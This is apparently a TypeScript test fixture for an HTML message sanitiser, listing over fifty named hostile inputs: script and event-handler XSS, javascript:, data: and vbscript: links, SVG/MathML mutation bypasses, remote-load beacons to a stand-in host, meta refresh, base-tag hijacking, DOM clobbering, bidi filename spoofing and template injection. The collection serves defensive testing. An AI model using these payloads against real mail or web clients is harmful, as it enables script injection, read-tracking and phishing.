/**
 * What a hostile sender may put into a message, at least forty kinds: scripts, handlers, styles,
 * remote content, foreign documents, forms, links that are not what they seem, and text that steers.
 * `BEACON` stands for an address whose request would tell the sender that the message was read.
 */

export interface Trick {
  readonly name: string;
  readonly body: string;
}

const BEACON = 'http://beacon.example';
/** Sets a mark that the test looks for. */
const RUN = "window.tricked=true;document.title='tricked'";

const SOURCES: Readonly<Record<string, string>> = {
  script: `<script>${RUN}</script>`,
  'script from elsewhere': `<script src="${BEACON}/a.js"></script>`,
  'script module': `<script type="module">${RUN}</script>`,
  'broken script tag': `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  'script in upper case, unclosed': `<SCRIPT>${RUN}`,
  'image with handler': `<img src=x onerror="${RUN}">`,
  'image from elsewhere': `<img src="${BEACON}/pixel.png">`,
  'image set': `<img srcset="${BEACON}/1.png 1x, ${BEACON}/2.png 2x">`,
  picture: `<picture><source srcset="${BEACON}/p.webp"><img alt="p"></picture>`,
  'lazy image': `<img loading="lazy" src="//beacon.example/lazy.png">`,
  'svg with handler': `<svg onload="${RUN}"><circle r="9"/></svg>`,
  'svg with script': `<svg><script>${RUN}</script></svg>`,
  'svg with foreign object': `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
  'svg use': `<svg><use href="${BEACON}/s.svg#x"></use></svg>`,
  'svg as data image': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  'svg animation': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  'math link': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  'style sheet': `<style>@import url(${BEACON}/s.css); body{display:none}</style>`,
  'style attribute': `<div style="background:url(${BEACON}/b.png);position:fixed;inset:0">cover</div>`,
  'style with expression': `<p style="width:expression(${RUN})">old</p>`,
  'link to style sheet': `<link rel="stylesheet" href="${BEACON}/l.css">`,
  prefetch: `<link rel="prefetch" href="${BEACON}/p"><link rel="dns-prefetch" href="//beacon.example">`,
  'font face': `<style>@font-face{font-family:x;src:url(${BEACON}/f.woff)} p{font-family:x}</style><p>f</p>`,
  'meta refresh': `<meta http-equiv="refresh" content="0;url=${BEACON}/r">`,
  base: `<base href="${BEACON}/"><img src="relative.png"><a href="relative">x</a>`,
  frame: `<iframe src="${BEACON}/frame"></iframe>`,
  'frame with document': `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  frameset: `<frameset><frame src="${BEACON}/f"></frameset>`,
  object: `<object data="${BEACON}/o.swf"></object><embed src="${BEACON}/e.swf">`,
  audio: `<audio autoplay src="${BEACON}/a.mp3"></audio><video poster="${BEACON}/v.png" autoplay></video>`,
  'javascript link': `<a href="javascript:${RUN}">click</a>`,
  'javascript link with white space': `<a href=" &#10;java&#9;script:${RUN}">click</a>`,
  'data link': `<a href="data:text/html,<script>${RUN}</script>">click</a>`,
  'vbscript link': `<a href="vbscript:msgbox(1)">click</a>`,
  'link that shows another target': `<a href="${BEACON}/true">https://bank.example</a>`,
  'ping and target': `<a href="https://a.example" ping="${BEACON}/ping" target="_top">x</a>`,
  form: `<form action="${BEACON}/f"><input name="q" autofocus onfocus="${RUN}"><button>go</button></form>`,
  'button outside of a form': `<button formaction="javascript:${RUN}">x</button>`,
  'handlers of every kind': `<details open ontoggle="${RUN}"><summary>s</summary></details><body onpageshow="${RUN}">`,
  'comment that ends early': `<!--><img src=x onerror="${RUN}">-->`,
  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  'mutation by mathml': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  template: `<template><img src="${BEACON}/t.png"></template><slot></slot>`,
  'table background': `<table background="${BEACON}/t.png"><tr><td background="${BEACON}/d.png">x</td></tr></table>`,
  'web component': `<x-evil onclick="${RUN}">x</x-evil><portal src="${BEACON}/p"></portal>`,
  'cdata and xml': `<?xml-stylesheet href="${BEACON}/x.css"?><![CDATA[<script>${RUN}</script>]]>`,
  'clobbering names': `<img name="body"><form id="document"><input name="cookie"></form>`,
  'bidi controls': 'invoice\u202Egnp.exe and \u2067\u202Eelbisivni\u2069 \u200F\u061C',
  'huge word': 'W'.repeat(20_000),
  'towers of marks': `Z${'\u0336\u0353\u0301'.repeat(200)}`,
  'nested a thousand times': `${'<div>'.repeat(2_000)}deep`,
  'null characters': `<scr\u0000ipt>${RUN}</script>\u0000\u0007`,
  'template text': '{{constructor.constructor("alert(1)")()}} ${alert(1)} {@html "<b>"}',
  'autolinks that are none': `javascript:alert(1) data:text/html,x file:///etc/passwd //beacon.example/x`,
};

export const HTML_TRICKS: readonly Trick[] = Object.entries(SOURCES).map(([name, body]) => ({
  name,
  body: `<p>${name}</p>\n${body}\n<b>end of ${name}</b>`,
}));
